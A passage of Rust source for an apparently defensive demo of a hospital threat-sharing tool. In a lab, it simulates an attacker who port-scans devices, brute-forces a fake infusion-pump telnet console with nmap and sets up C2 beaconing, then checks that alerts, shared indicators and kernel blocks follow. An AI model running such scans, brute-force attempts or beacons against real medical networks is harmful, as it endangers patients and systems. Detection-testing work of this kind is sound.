    /// The block on the attacker at hospital `i`, if any.
    pub fn attacker_block(&self, i: usize) -> Option<Value> {
        let b = self.blocks(i);
        b["blocks"]
            .as_array()?
            .iter()
            .find(|b| {
                b["target"]
                    .as_str()
                    .is_some_and(|t| t.starts_with(&ATTACKER.to_string()))
                    && b["expired"] == Value::Bool(false)
            })
            .cloned()
    }

    /// `heir indicators --json` at hospital `i`: one entry per line.
    pub fn indicators(&self, i: usize) -> Vec<Value> {
        let data = self.hospitals[i].data.to_string_lossy().into_owned();
        self.heir(&["indicators", "--json", "--data-dir", &data])
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    /// `heir rama --json` at hospital `i`.
    pub fn rama(&self, i: usize) -> Value {
        let data = self.hospitals[i].data.to_string_lossy().into_owned();
        self.heir(&["rama", "--json", "--data-dir", &data])
            .ok()
            .and_then(|s| serde_json::from_str(&s).ok())
            .unwrap_or(Value::Null)
    }

    /// Opens the terminal UI of every hospital in one tmux session (a window each).
    pub fn open_tuis(&mut self) -> Result<String> {
        let session = format!("heir-demo-{}", self.id);
        for (k, h) in self.hospitals.iter().enumerate() {
            let cmd = format!(
                "{} tui --data-dir {}",
                self.heir.display(),
                h.data.display()
            );
            let mut t = Command::new("tmux");
            if k == 0 {
                t.args([
                    "new-session",
                    "-d",
                    "-s",
                    &session,
                    "-x",
                    "160",
                    "-y",
                    "45",
                    "-n",
                ]);
            } else {
                t.args(["new-window", "-t", &session, "-n"]);
            }
            let ok = t
                .arg(format!("hospital-{}", h.letter))
                .arg(cmd)
                .status()
                .map_err(io("tmux"))?
                .success();
            if !ok {
                return Err(step("starting the terminal UIs", "tmux failed"));
            }
            self.tmux = Some(session.clone());
        }
        Ok(session)
    }

    /// Sends keys to hospital `letter`'s terminal UI.
    pub fn tui_keys(&self, letter: char, keys: &[&str]) -> Result<()> {
        let session = self
            .tmux
            .as_deref()
            .ok_or_else(|| step("tui", "not open"))?;
        let ok = Command::new("tmux")
            .args(["send-keys", "-t", &format!("{session}:hospital-{letter}")])
            .args(keys)
            .status()
            .map_err(io("tmux send-keys"))?
            .success();
        ok.then_some(())
            .ok_or_else(|| step("tui", "tmux send-keys failed"))
    }

    /// What hospital `letter`'s terminal UI shows now.
    pub fn tui_screen(&self, letter: char) -> Result<String> {
        let session = self
            .tmux
            .as_deref()
            .ok_or_else(|| step("tui", "not open"))?;
        let out = Command::new("tmux")
            .args([
                "capture-pane",
                "-p",
                "-t",
                &format!("{session}:hospital-{letter}"),
            ])
            .output()
            .map_err(io("tmux capture-pane"))?;
        Ok(String::from_utf8_lossy(&out.stdout).into_owned())
    }

    /// Stops the agents (each saves its state), then removes every process, namespace and
    /// pinned map the world created. Safe to call twice.
    pub fn teardown(&mut self) {
        if let Some(s) = self.tmux.take() {
            let _ = Command::new("tmux")
                .args(["kill-session", "-t", &s])
                .stderr(Stdio::null())
                .status();
        }
        for h in &mut self.hospitals {
            if let Some(mut a) = h.agent.take() {
                // SAFETY: signalling our own child.
                unsafe { libc::kill(a.id() as i32, libc::SIGTERM) };
                let start = Instant::now();
                while start.elapsed() < Duration::from_secs(15) {
                    if let Ok(Some(_)) = a.try_wait() {
                        break;
                    }
                    std::thread::sleep(Duration::from_millis(50));
                }
                let _ = a.kill();
                let _ = a.wait();
            }
        }
        self.stop.store(true, Ordering::Relaxed);
        for mut c in self.children.drain(..) {
            let _ = c.kill();
            let _ = c.wait();
        }
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
        remove(&std::mem::take(&mut self.namespaces));
        for h in &self.hospitals {
            let _ = std::fs::remove_dir_all(&h.pins);
        }
    }

    /// Removes what a world with id `id` left behind when its process could not tear it
    /// down (killed by a signal): processes in its namespaces, the namespaces, pinned maps.
    pub fn remove_leftovers(id: &str) {
        let namespaces: Vec<String> = Command::new("ip")
            .args(["netns", "list"])
            .output()
            .map(|o| {
                String::from_utf8_lossy(&o.stdout)
                    .lines()
                    .filter_map(|l| l.split_whitespace().next())
                    .filter(|n| n.starts_with(&format!("hd{id}-")))
                    .map(str::to_owned)
                    .collect()
            })
            .unwrap_or_default();
        let _ = Command::new("tmux")
            .args(["kill-session", "-t", &format!("heir-demo-{id}")])
            .stderr(Stdio::null())
            .status();
        remove(&namespaces);
        if let Ok(dir) = std::fs::read_dir("/sys/fs/bpf") {
            for e in dir.flatten() {
                if e.file_name()
                    .to_string_lossy()
                    .starts_with(&format!("heir-demo-{id}-"))
                {
                    let _ = std::fs::remove_dir_all(e.path());
                }
            }
        }
    }

    /// Whether anything this world created is still there: namespaces, pinned maps.
    pub fn leftovers(id: &str) -> Vec<String> {
        let mut left = Vec::new();
        if let Ok(out) = Command::new("ip").args(["netns", "list"]).output() {
            for l in String::from_utf8_lossy(&out.stdout).lines() {
                if l.starts_with(&format!("hd{id}-")) {
                    left.push(format!("namespace {l}"));
                }
            }
        }
        if let Ok(dir) = std::fs::read_dir("/sys/fs/bpf") {
            for e in dir.flatten() {
                let name = e.file_name().to_string_lossy().into_owned();
                if name.starts_with(&format!("heir-demo-{id}-")) {
                    left.push(format!("pinned {name}"));
                }
            }
        }
        left
    }
}

/// Kills every process still inside `namespaces` (a tool that outlived its run), then
/// deletes them; their links go with them.
fn remove(namespaces: &[String]) {
    for ns in namespaces {
        if let Ok(out) = Command::new("ip").args(["netns", "pids", ns]).output() {
            for pid in String::from_utf8_lossy(&out.stdout).split_whitespace() {
                if let Ok(pid) = pid.parse::<i32>() {
                    // SAFETY: signalling a process by pid; at worst it is already gone.
                    unsafe { libc::kill(pid, libc::SIGKILL) };
                }
            }
        }
    }
    for ns in namespaces.iter().rev() {
        let _ = Command::new("ip")
            .args(["netns", "del", ns])
            .stderr(Stdio::null())
            .status();
    }
}

/// Whether something listens on TCP `port` in namespace `ns`.
fn listening(ns: &str, port: u16) -> bool {
    in_ns(ns, "ss")
        .args(["-Hltn", &format!("sport = :{port}")])
        .output()
        .is_ok_and(|o| !String::from_utf8_lossy(&o.stdout).trim().is_empty())
}

/// The pump gateway's telnet console: up to three login prompts per connection, accepting
/// only the factory account.
fn telnet_console(stop: Arc<AtomicBool>) {
    let Ok(l) = TcpListener::bind(("0.0.0.0", 23)) else {
        eprintln!("telnet console: cannot bind 23");
        return;
    };
    let _ = l.set_nonblocking(true);
    let mut sessions = Vec::new();
    while !stop.load(Ordering::Relaxed) {
        let Ok((s, _)) = l.accept() else {
            std::thread::sleep(Duration::from_millis(10));
            continue;
        };
        let stop = stop.clone();
        sessions.push(std::thread::spawn(move || {
            let _ = s.set_nonblocking(false);
            let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
            let Ok(mut w) = s.try_clone() else { return };
            let mut r = s;
            let mut answered = [false; 256];
            // Will echo, suppress go-ahead: what embedded consoles open with. Three tries per
            // connection, as login(1) allows, then the console hangs up.
            let _ = w.write_all(b"\xff\xfb\x01\xff\xfb\x03\r\nInfusia-GW 2.1 console\r\n");
            for _ in 0..3 {
                if stop.load(Ordering::Relaxed) {
                    return;
                }
                let _ = w.write_all(b"login: ");
                let Some(user) = telnet_line(&mut r, &mut answered) else {
                    return;
                };
                let _ = w.write_all(b"Password: ");
                let Some(pass) = telnet_line(&mut r, &mut answered) else {
                    return;
                };
                if (user.as_str(), pass.as_str()) == DEFAULT_LOGIN {
                    let _ = w.write_all(b"\r\nWelcome admin\r\npump# ");
                    let _ = telnet_line(&mut r, &mut answered);
                    return;
                }
                let _ = w.write_all(b"\r\nLogin incorrect\r\n");
            }
            let _ = w.write_all(b"Connection closed\r\n");
        }));
        sessions.retain(|s: &JoinHandle<()>| !s.is_finished());
    }
    for s in sessions {
        let _ = s.join();
    }
}

/// One line from a telnet client. Clients end lines with CR, CR LF or CR NUL: any of them
/// ends the line, and empty lines are skipped. Option negotiation is answered as a minimal
/// console does: it refuses every option the client offers or asks for, and acknowledges
/// the client turning off the two it offered itself (echo, suppress-go-ahead), so clients
/// that wait for an answer before typing (nmap's telnet-brute does) go on. Each option is answered once
/// per session (`answered`), so two parties that both acknowledge never loop.
fn telnet_line(s: &mut TcpStream, answered: &mut [bool; 256]) -> Option<String> {
    const WILL: u8 = 0xfb;
    const WONT: u8 = 0xfc;
    const DO: u8 = 0xfd;
    const DONT: u8 = 0xfe;
    let mut out = Vec::new();
    let byte = |s: &mut TcpStream| -> Option<u8> {
        let mut b = [0u8; 1];
        match s.read(&mut b) {
            Ok(1) => Some(b[0]),
            _ => None,
        }
    };
    loop {
        match byte(s)? {
            0xff => {
                let cmd = byte(s)?;
                if (WILL..=DONT).contains(&cmd) {
                    let opt = byte(s)?;
                    let answer = match cmd {
                        WILL => Some(DONT),
                        DO => Some(WONT),
                        DONT => Some(WONT),
                        _ => None,
                    };
                    if let Some(a) = answer
                        && !std::mem::replace(&mut answered[usize::from(opt)], true)
                    {
                        let _ = s.write_all(&[0xff, a, opt]);
                    }
                }
            }
            b'\r' | b'\n' if out.is_empty() => {}
            b'\r' | b'\n' => return Some(String::from_utf8_lossy(&out).into_owned()),
            0 => {}
            c if out.len() < 256 => out.push(c),
            _ => return None,
        }
    }
}

/// MLLP framing: 0x0B, the message, 0x1C 0x0D.
fn mllp_frame(msg: &str) -> Vec<u8> {
    let mut f = vec![0x0b];
    f.extend_from_slice(msg.as_bytes());
    f.extend_from_slice(&[0x1c, 0x0d]);
    f
}

/// The HL7 interface engine: acknowledges every MLLP message with an ACK^AA.
fn mllp_engine(stop: Arc<AtomicBool>) {
    let Ok(l) = TcpListener::bind(("0.0.0.0", 2575)) else {
        eprintln!("MLLP engine: cannot bind 2575");
        return;
    };
    let _ = l.set_nonblocking(true);
    while !stop.load(Ordering::Relaxed) {
        let Ok((mut s, _)) = l.accept() else {
            std::thread::sleep(Duration::from_millis(10));
            continue;
        };
        let _ = s.set_nonblocking(false);
        let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
        let mut buf = Vec::new();
        let mut chunk = [0u8; 2048];
        while !buf.ends_with(&[0x1c, 0x0d]) {
            match s.read(&mut chunk) {
                Ok(0) | Err(_) => break,
                Ok(n) => buf.extend_from_slice(&chunk[..n]),
            }
        }
        let ack = "MSH|^~\\&|ENGINE|HOSPITAL|RIS|HOSPITAL|20261129120000||ACK^A01|ACK0001|P|2.5\rMSA|AA|MSG0001\r";
        let _ = s.write_all(&mllp_frame(ack));
    }
}

/// Sends one ADT^A01 (a fictional patient) over MLLP and waits for the ACK.
fn mllp_send(to: SocketAddr) -> std::io::Result<()> {
    let mut s = TcpStream::connect_timeout(&to, Duration::from_secs(3))?;
    s.set_read_timeout(Some(Duration::from_secs(3)))?;
    let adt = "MSH|^~\\&|RIS|HOSPITAL|ENGINE|HOSPITAL|20261129120000||ADT^A01|MSG0001|P|2.5\r\
               PID|1||DEMO-0001^^^HOSP||ANONYMOUS^DEMO||19700101|U\r";
    s.write_all(&mllp_frame(adt))?;
    let mut buf = [0u8; 512];
    let n = s.read(&mut buf)?;
    if buf[..n].windows(6).any(|w| w == b"MSA|AA") {
        Ok(())
    } else {
        Err(std::io::Error::other("no ACK^AA"))
    }
}

/// What happened, and when (time since the world was built).
#[derive(Debug, Default)]
pub struct Story {
    /// A's first port-scan alert naming the attacker.
    pub scan_alert_a: Option<Duration>,
    pub scan_alert_c: Option<Duration>,
    /// The attacker's address in B's knowledge base.
    pub indicator_at_b: Option<Duration>,
    pub indicator_at_c: Option<Duration>,
    /// B's kernel block on the attacker.
    pub block_at_b: Option<Duration>,
    /// When the attacker turned to B.
    pub attack_on_b: Option<Duration>,
    pub found_password: bool,
    pub beacons_answered: u32,
    /// Whether the attacker still reached A's PACS after B blocked it (A only observes).
    pub attacker_reached_a: bool,
    /// Whether the attacker reached B's PACS.
    pub attacker_reached_b: bool,
    /// A's pump gateway score before the attack and after it.
    pub pump_rama: (f64, f64),
    /// A's `heir rama --json` before the attack and after it.
    pub rama_a: (Value, Value),
    /// Kernel events A's syscall probes (scoped to its PACS host) reported, by kind.
    pub pacs_host_events: std::collections::BTreeMap<String, u64>,
}

/// Whether an alert names the attacker as its source and has category `slug`.
pub fn from_attacker(a: &Value, slug: &str) -> bool {
    a["category"] == slug && a["src_ip"] == ATTACKER.to_string()
}

/// Factor `name` (threat, exposure, …) of device `id` in a `heir rama --json` answer.
pub fn device_factor(rama: &Value, id: &str, name: &str) -> Option<f64> {
    rama["devices"].as_array()?.iter().find_map(|d| {
        (d.get(0)? == id)
            .then(|| d.get(1)?.get("factors")?.get(name)?.as_f64())
            .flatten()
    })
}

/// The score of device `id` in a `heir rama --json` answer.
pub fn device_score(rama: &Value, id: &str) -> Option<f64> {
    rama["devices"].as_array()?.iter().find_map(|d| {
        let (name, score) = match d {
            Value::Array(pair) => (pair.first()?, pair.get(1)?),
            Value::Object(_) => (d.get("id")?, d),
            _ => return None,
        };
        (name == id).then(|| score.get("value").and_then(Value::as_f64))?
    })
}

/// The attack, told as it happens.
pub fn run(w: &mut World, beats: u32) -> Result<Story> {
    let mut story = Story::default();
    let (a, b, c) = (0, 1, 2);
    for h in [a, b, c] {
        w.routine_traffic(h)?;
    }
    w.log.say(
        "routine clinical traffic in every hospital: DICOM C-ECHO/C-STORE, HL7 ADT over MLLP, a report from the TLS 1.0 console",
    );
    // The inventory has seen the devices; let the first scores settle.
    std::thread::sleep(Duration::from_secs(2));
    let pump_id = format!("{}-pump", w.hospitals[a].letter);
    let rama_before = w.rama(a);
    let before = device_score(&rama_before, &pump_id).unwrap_or(f64::NAN);
    w.c2_listener();

    w.log.say(format!(
        "attacker {ATTACKER} sweeps hospital A's devices (nmap -sS)"
    ));
    w.scan(a)?;
    wait_until("a port-scan alert at A", Duration::from_secs(30), || {
        w.hospitals[a]
            .alerts()
            .iter()
            .any(|x| from_attacker(x, "port_scan"))
    })?;
    story.scan_alert_a = Some(w.log.elapsed());
    w.log
        .say("A: port_scan alert; A shares the attacker's address with the consortium");

    w.log.say("attacker sweeps hospital C's devices");
    w.scan(c)?;
    wait_until("a port-scan alert at C", Duration::from_secs(30), || {
        w.hospitals[c]
            .alerts()
            .iter()
            .any(|x| from_attacker(x, "port_scan"))
    })?;
    story.scan_alert_c = Some(w.log.elapsed());
    w.log.say("C: port_scan alert; C reports the same address");

    let names_attacker = |e: &Value| {
        e["indicator"]["observable"]
            .to_string()
            .contains(&ATTACKER.to_string())
    };
    let limit = Duration::from_secs(30);
    let started = Instant::now();
    while started.elapsed() < limit
        && (story.indicator_at_b.is_none()
            || story.indicator_at_c.is_none()
            || story.block_at_b.is_none())
    {
        if story.indicator_at_b.is_none() && w.indicators(b).iter().any(names_attacker) {
            story.indicator_at_b = Some(w.log.elapsed());
            w.log.say("B: the attacker's address arrived over the mesh");
        }
        if story.indicator_at_c.is_none() && w.indicators(c).iter().any(names_attacker) {
            story.indicator_at_c = Some(w.log.elapsed());
            w.log.say("C: A's indicator arrived over the mesh");
        }
        if story.block_at_b.is_none() && w.attacker_block(b).is_some() {
            story.block_at_b = Some(w.log.elapsed());
            w.log.say(format!(
                "B: two hospitals corroborate {ATTACKER}: B's responder blocks it in the kernel (XDP)"
            ));
        }
        std::thread::sleep(Duration::from_millis(200));
    }

    w.log
        .say("attacker brute-forces A's pump console (nmap telnet-brute)");
    story.found_password = w.brute_force(a)?;
    let _ = wait_until("a brute-force alert at A", Duration::from_secs(20), || {
        w.hospitals[a]
            .alerts()
            .iter()
            .any(|x| from_attacker(x, "brute_force"))
    });
    w.log.say(format!(
        "the attacker {} the factory password",
        if story.found_password {
            "found"
        } else {
            "did not find"
        }
    ));

    w.log.say(format!(
        "A's pump, now compromised, calls home to {ATTACKER}:{C2_PORT} about once a second ({beats} beats)"
    ));
    story.beacons_answered = w.beacon(a, beats)?;
    let _ = wait_until("a beacon alert at A", Duration::from_secs(20), || {
        w.hospitals[a]
            .alerts()
            .iter()
            .any(|x| x["category"] == "c2_beacon")
    });

    story.attack_on_b = Some(w.log.elapsed());
    w.log.say("attacker turns to hospital B");
    story.attacker_reached_b = w.attacker_reaches(b, 0);
    story.attacker_reached_a = w.attacker_reaches(a, 0);
    w.log.say(format!(
        "attacker → B's PACS: {}; → A's PACS (A only observes): {}",
        if story.attacker_reached_b {
            "connected"
        } else {
            "dropped at B's gateway"
        },
        if story.attacker_reached_a {
            "connected"
        } else {
            "dropped"
        }
    ));
    // Give A's agent a moment to save the scores the attack raised.
    std::thread::sleep(Duration::from_secs(2));
    let rama_after = w.rama(a);
    let after = device_score(&rama_after, &pump_id).unwrap_or(f64::NAN);
    story.pump_rama = (before, after);
    story.rama_a = (rama_before, rama_after);
    story.pacs_host_events = w.kernel_events(a);
    w.log.say(format!(
        "A's syscall probes, scoped to the PACS host, reported {:?}; the attacker's tools ran elsewhere",
        story
            .pacs_host_events
            .iter()
            .filter(|(_, n)| **n > 0)
            .collect::<Vec<_>>()
    ));
    w.log.say(format!(
        "A's pump gateway RAMA: {before:.1} before the attack, {after:.1} after"
    ));
    Ok(story)
}
